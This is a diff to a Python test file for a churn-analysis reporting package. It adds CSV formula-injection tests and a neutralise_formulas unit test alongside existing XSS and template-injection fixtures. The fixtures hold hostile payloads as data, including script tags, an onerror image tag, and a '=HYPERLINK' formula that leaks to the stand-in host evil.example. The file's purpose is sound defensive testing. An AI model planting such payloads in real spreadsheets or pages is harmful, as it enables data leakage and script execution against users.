@@ -37,6 +37,8 @@ SCRIPT = "<script>alert(1)</script>"
 TEMPLATE = "{{7*7}}"
 IMG_ONERROR = '<img src=x onerror="alert(2)">'
 DOLLARS = "$5_$10"  # matplotlib would read "$5_$" as maths and fail to draw the figure
+FORMULA = "@SUM(1+1)"  # a spreadsheet would run this (and the =HYPERLINK id) as a formula
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak","click")'
 
 # What the issue asks for in tables/ (file names of the CSVs).
 REQUIRED_TABLES = {
@@ -100,7 +102,7 @@ def parse(page: str) -> _Page:
 def hostile_frame(n: int = 120) -> pd.DataFrame:
     """A small customer table whose names and values are markup, template code and quotes."""
     rng = np.random.default_rng(7)
-    plan = np.array([TEMPLATE, SCRIPT, IMG_ONERROR, "basic"])[np.arange(n) % 4]
+    plan = np.array([TEMPLATE, SCRIPT, IMG_ONERROR, "basic", FORMULA])[np.arange(n) % 5]
     region = np.array([DOLLARS, SCRIPT])[(np.arange(n) // 2) % 2]
     hazard = np.where(plan == "basic", 0.08, 0.04)
     tenure = np.minimum(np.ceil(rng.exponential(1 / hazard)), 36).astype(int)
@@ -108,6 +110,7 @@ def hostile_frame(n: int = 120) -> pd.DataFrame:
     ids = [f"c{i:04d}" for i in range(n)]
     ids[1] = SCRIPT  # an id that is itself a script tag
     ids[2] = "$id_$2"  # ids label the value-at-risk figure
+    ids[int(np.flatnonzero(~churned)[0])] = HYPERLINK  # an active customer: in value_at_risk.csv
     return pd.DataFrame(
         {
             "id": ids,
@@ -309,7 +312,7 @@ def test_hostile_names_and_values_are_text_never_markup(hostile):
 def test_hostile_values_survive_into_the_tables(hostile):
     _, runs = hostile
     km = pd.read_csv(runs[0] / "tables" / "km_summary.csv")
-    assert {SCRIPT, TEMPLATE, IMG_ONERROR, "basic"} <= set(km["segment"])
+    assert {SCRIPT, TEMPLATE, IMG_ONERROR, "basic", "'" + FORMULA} <= set(km["segment"])
     assert SCRIPT in set(km["by"]) and DOLLARS in set(km["segment"])
     # every figure was drawn, "$5_$10" in legends and ticks and "$id_$2" among the ids included
     figures = {p.stem for p in (runs[0] / "figures").glob("*.png")}
@@ -320,6 +323,28 @@ def test_hostile_values_survive_into_the_tables(hostile):
     assert any(SCRIPT in term for term in cox["term"])
     about = pd.read_csv(runs[0] / "tables" / "about.csv", index_col=0)["value"]
     assert SCRIPT in about["command"] and "os._exit(3)" in about["command"]
+
+
+def test_no_cell_of_any_table_reads_as_a_spreadsheet_formula(hostile):
+    """OWASP CSV injection: text starting with = + - @ tab CR gets a leading quote (issue #12)."""
+    import csv
+
+    _, runs = hostile
+    cells = 0
+    for path in sorted((runs[0] / "tables").glob("*.csv")):
+        with open(path, newline="", encoding="utf-8") as handle:
+            for row in csv.reader(handle):
+                for cell in row:
+                    cells += 1
+                    if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
+                        float(cell)  # only numbers may start so: -0.35 stays a number
+    assert cells > 1000
+    var = (runs[0] / "tables" / "value_at_risk.csv").read_text(encoding="utf-8")
+    assert '"\'=HYPERLINK(""http://evil.example/?leak"",""click"")"' in var
+    km = (runs[0] / "tables" / "km_summary.csv").read_text(encoding="utf-8")
+    assert ",'@SUM(1+1)," in km and ",@SUM" not in km
+    cox = pd.read_csv(runs[0] / "tables" / "cox_summary.csv")
+    assert (cox["log_hr"] < 0).any() and cox["log_hr"].dtype == float  # numbers stay numbers
 
 
 def test_same_input_options_and_seed_give_the_same_numbers(hostile):
@@ -574,5 +599,32 @@ def test_read_input_reads_a_file_or_a_bundled_data_set(tmp_path):
 def test_template_uses_the_io_helpers_not_its_own_copies():
     code = "\n".join(c.source for c in nbformat.read(template_path(), as_version=4).cells)
     assert "from churnsurv.report.io import formula_columns, read_input, sbg_tail" in code
-    for copy in ("hashlib", "read_csv", "read_parquet", "formulaic.Formula", "np.ceil", "np.floor"):
+    copies = ("hashlib", "read_csv", "read_parquet", "formulaic.Formula", "np.ceil", "np.floor")
+    for copy in (*copies, ".to_csv("):  # every table is written by write_csv
         assert copy not in code, copy
+
+
+def test_neutralise_formulas_quotes_text_only():
+    from churnsurv.report.io import neutralise_formulas
+
+    frame = pd.DataFrame(
+        {
+            "=cmd": ["-x", "@y", "\tz", "\rw", "+1", "ok"],
+            "mixed": ["=a", -1.5, None, "b", 2, "-"],
+            "hr": [-1.0, 0.5, -2.0, 1.0, 3.0, -0.1],
+            "plan": pd.Categorical(["=p", "q", "=p", "q", "q", "q"]),
+        },
+        index=pd.Index(["+i", "j", "k", "l", "m", "n"], name="@id"),
+    )
+    out = neutralise_formulas(frame)
+    assert list(out.columns) == ["'=cmd", "mixed", "hr", "plan"] and out.index.name == "'@id"
+    assert out.index[0] == "'+i" and out.index[1] == "j"
+    assert out["'=cmd"].tolist() == ["'-x", "'@y", "'\tz", "'\rw", "'+1", "ok"]
+    assert out["mixed"].tolist()[:2] == ["'=a", -1.5] and out["mixed"].tolist()[3:] == [
+        "b",
+        2,
+        "'-",
+    ]
+    assert out["hr"].dtype == float and out["hr"].tolist() == frame["hr"].tolist()  # numbers stay
+    assert out["plan"].tolist()[:2] == ["'=p", "q"]
+    assert frame.columns[0] == "=cmd"  # the input is not changed
